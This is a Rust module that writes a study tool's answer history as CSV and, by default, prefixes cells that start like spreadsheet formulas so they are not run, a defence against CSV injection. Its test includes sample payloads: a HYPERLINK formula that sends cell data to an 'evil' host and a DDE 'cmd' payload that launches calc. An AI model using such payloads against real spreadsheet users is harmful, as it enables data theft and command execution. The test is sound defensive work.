//! The history CSV: every stored answer, one row each, with its grade, what
//! each key point earned, and cells a spreadsheet would run as formulas
//! neutralised unless asked otherwise.

use std::collections::BTreeMap;

use super::sheet::{clean, export_error, finish};
use crate::error::Result;
use crate::store::{Attempt, SessionKind, Status};
use crate::verdict::Coverage;

/// The columns of the history CSV, in order.
const CSV_COLUMNS: [&str; 15] = [
    "attempt",
    "created_at",
    "session",
    "mode",
    "question",
    "topic",
    "status",
    "grader",
    "score",
    "counted",
    "seconds",
    "cut_off",
    "key_points",
    "mistakes",
    "answer",
];

fn coverage_word(c: Coverage) -> &'static str {
    match c {
        Coverage::Covered => "covered",
        Coverage::Partial => "partial",
        Coverage::Missing => "missing",
    }
}

fn status_word(s: Status) -> &'static str {
    match s {
        Status::Ungraded => "ungraded",
        Status::Graded => "graded",
        Status::Skipped => "skipped",
    }
}

/// What each key point earned, as counted: `id=covered;id2=missing`.
fn key_points(a: &Attempt) -> String {
    a.verdict
        .as_ref()
        .map(|v| {
            v.key_points
                .iter()
                .map(|p| format!("{}={}", p.id, coverage_word(p.coverage)))
                .collect::<Vec<_>>()
                .join(";")
        })
        .unwrap_or_default()
}

/// What the CSV does with a cell a spreadsheet would read as a formula.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Formulas {
    /// Prefixed with `'`, which spreadsheets show as text (the default).
    Neutralise,
    /// Written as it is (`--allow-formulas`).
    Keep,
}

/// Whether a spreadsheet could read a cell as a formula: it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's CSV injection
/// list), or a fullwidth `＝ ＋ － ＠`, which some locales' spreadsheets
/// take for the same.
fn formula_like(cell: &str) -> bool {
    cell.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ])
}

/// A cell as `formulas` says: one that starts like a formula gets a `'`
/// first. The answers are often other people's text (`grade --batch` of a
/// cohort), and the file is opened in a spreadsheet.
fn cell(text: String, formulas: Formulas) -> String {
    if formulas == Formulas::Neutralise && formula_like(&text) {
        format!("'{text}")
    } else {
        text
    }
}

/// The history as CSV: a header row, then one row per attempt in the order
/// given. `modes` names the kind of each session. Empty cells for what an
/// attempt does not have (no session, no grade yet).
pub fn history_csv(
    attempts: &[Attempt],
    modes: &BTreeMap<i64, SessionKind>,
    formulas: Formulas,
) -> Result<String> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(CSV_COLUMNS).map_err(|e| export_error(&e))?;
    let num = |x: Option<f64>| x.map(|x| format!("{x:.1}")).unwrap_or_default();
    for a in attempts {
        let mistakes = a
            .verdict
            .as_ref()
            .map(|v| v.mistakes.iter().filter(|m| m.verified).count().to_string())
            .unwrap_or_default();
        let mode = a
            .session_id
            .and_then(|id| modes.get(&id))
            .map_or("", |k| k.as_str());
        let row = [
            a.id.to_string(),
            clean(&a.created_at),
            a.session_id.map(|s| s.to_string()).unwrap_or_default(),
            mode.to_string(),
            clean(&a.question_id),
            clean(&a.topic),
            status_word(a.status).to_string(),
            a.graded_by
                .as_ref()
                .map(|g| clean(&g.label()))
                .unwrap_or_default(),
            num(a.score),
            a.counted_score().is_some().to_string(),
            num(a.seconds),
            a.cut_off.to_string(),
            clean(&key_points(a)),
            mistakes,
            clean(&a.answer),
        ];
        w.write_record(row.map(|c| cell(c, formulas)))
            .map_err(|e| export_error(&e))?;
    }
    finish(w)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::commands::export::sheet::read_back;
    use crate::store::GradedBy;
    use crate::verdict::{Mistake, PointVerdict, Verdict};

    fn attempt(id: i64, answer: &str) -> Attempt {
        Attempt {
            id,
            session_id: None,
            question_id: "q".into(),
            topic: "rag".into(),
            answer: answer.into(),
            status: Status::Ungraded,
            graded_by: None,
            verdict: None,
            score: None,
            seconds: None,
            cut_off: false,
            error: None,
            extra: None,
            created_at: "2026-11-05T10:00:00Z".into(),
            graded_at: None,
            usage: None,
        }
    }

    #[test]
    fn cells_that_start_like_a_formula_are_neutralised_unless_kept() {
        let answers = [
            "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\u{ff1d}1+1",
        ];
        let all: Vec<Attempt> = (0..).zip(answers).map(|(i, a)| attempt(i, a)).collect();
        let modes = BTreeMap::new();
        let rows = read_back(
            &history_csv(&all, &modes, Formulas::Neutralise).unwrap(),
            b',',
        );
        for (row, answer) in rows[1..].iter().zip(answers) {
            assert_eq!(row[14], format!("'{answer}"));
        }
        let rows = read_back(&history_csv(&all, &modes, Formulas::Keep).unwrap(), b',');
        for (row, answer) in rows[1..].iter().zip(answers) {
            assert_eq!(row[14], answer);
        }
        assert_eq!(cell("a = b".into(), Formulas::Neutralise), "a = b");
    }

    #[test]
    fn a_history_row_carries_the_grade_and_each_point() {
        let point = |id: &str, coverage| PointVerdict {
            id: id.into(),
            coverage,
            claimed: Coverage::Covered,
            evidence: String::new(),
            verified: true,
            weight: 1,
            check: None,
            uncertain: false,
            recovered: false,
        };
        let mut graded = attempt(7, "first, \"quoted\"\nsecond line");
        graded.session_id = Some(3);
        graded.status = Status::Graded;
        graded.graded_by = Some(GradedBy::Estimate);
        graded.score = Some(5.0);
        graded.seconds = Some(42.25);
        graded.verdict = Some(Verdict {
            score: 5.0,
            key_points: vec![point("a", Coverage::Covered), point("b", Coverage::Missing)],
            mistakes: vec![
                Mistake {
                    quote: "x".into(),
                    correction: "y".into(),
                    verified: true,
                },
                Mistake {
                    quote: "z".into(),
                    correction: "w".into(),
                    verified: false,
                },
            ],
            ..Verdict::default()
        });
        let modes = BTreeMap::from([(3, SessionKind::Interview)]);
        let text = history_csv(&[graded, attempt(8, "")], &modes, Formulas::Neutralise).unwrap();
        let rows = read_back(&text, b',');
        assert_eq!(rows[0], CSV_COLUMNS);
        assert_eq!(
            rows[1],
            [
                "7",
                "2026-11-05T10:00:00Z",
                "3",
                "interview",
                "q",
                "rag",
                "graded",
                "cues",
                "5.0",
                "false",
                "42.2",
                "false",
                "a=covered;b=missing",
                "1",
                "first, \"quoted\"\nsecond line"
            ]
        );
        assert_eq!(
            rows[2],
            [
                "8",
                "2026-11-05T10:00:00Z",
                "",
                "",
                "q",
                "rag",
                "ungraded",
                "",
                "",
                "false",
                "",
                "false",
                "",
                "",
                ""
            ]
        );
    }
}
